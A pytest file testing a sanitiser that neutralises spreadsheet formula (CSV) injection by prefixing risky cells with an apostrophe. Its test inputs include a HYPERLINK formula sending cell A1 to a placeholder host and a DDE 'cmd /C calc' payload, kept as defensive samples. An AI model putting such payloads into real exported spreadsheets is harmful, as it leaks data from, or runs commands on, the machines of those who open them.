"""What a spreadsheet would run is made plain, and nothing else."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from flows.files.spreadsheets import plain
from superset_assets.server import spreadsheets as of_superset


@pytest.mark.parametrize(
    ("text", "made"),
    [
        ('=HYPERLINK("http://example.invalid/?"&A1,"see")', '\'=HYPERLINK("http://example.invalid/?"&A1,"see")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\tquiet", "'\tquiet"),
        ("  =1+1", "'  =1+1"),
        ('""=1+1', '\'""=1+1'),
        ("＝1+1", "'＝1+1"),
        ("quiet; =1+1", "quiet;' =1+1"),
        ("=1;=2", "'=1;'=2"),
        ("-", "'-"),
        ("{=1+1}", "'{=1+1}"),
        ("-1\n%", "'-1\n%"),
    ],
)
def test_formulas_get_an_apostrophe(text: str, made: str) -> None:
    assert plain(text) == made


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Cash loans",
        "-5",
        "-0.25",
        "+0.90",
        "-1,5",
        "-12.5 %",
        "-12.5%",
        "-1e-05",
        "-.5",
        "1+1",
        "a=b",
        "a; b",
        "O'Neill",
        "x@y.fr",
    ],
)
def test_numbers_and_other_texts_stay(text: str) -> None:
    assert plain(text) == text


@given(st.text(alphabet='=+-@|%＝{"; \t\r\n1.,eA\u202f', max_size=12))
def test_superset_has_the_same_rule_but_for_line_ends_that_it_would_not_quote(text: str) -> None:
    assert of_superset.plain(text) == plain(re.sub("\r\n?", "\n", text))
